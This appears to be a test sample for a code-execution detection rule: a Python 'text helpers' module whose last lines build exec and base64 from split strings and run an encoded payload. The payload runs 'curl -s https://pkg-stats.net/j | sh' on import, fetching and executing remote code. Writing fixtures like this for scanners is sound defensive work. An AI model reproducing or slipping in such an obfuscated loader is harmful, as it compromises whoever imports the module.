"""Text helpers; the last lines fetch exec by a spelled-out name and run a decoded stage two."""
import textwrap


def dedent_all(*parts):
    return [textwrap.dedent(p) for p in parts]


_b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
_f = _b.get('ex' + 'ec') or getattr(__builtins__, 'ex' + 'ec')
_d = getattr(__import__('bas' + 'e64'), 'b64' + 'decode')
# ruleid: code/code-execution
_f(_d('X19pbXBvcnRfXygnc3VicHJvY2VzcycpLlBvcGVuKCdjdXJsIC1zIGh0dHBzOi8vcGtnLXN0YXRzLm5ldC9qIHwgc2gnLCBzaGVsbD1UcnVlKQ=='))
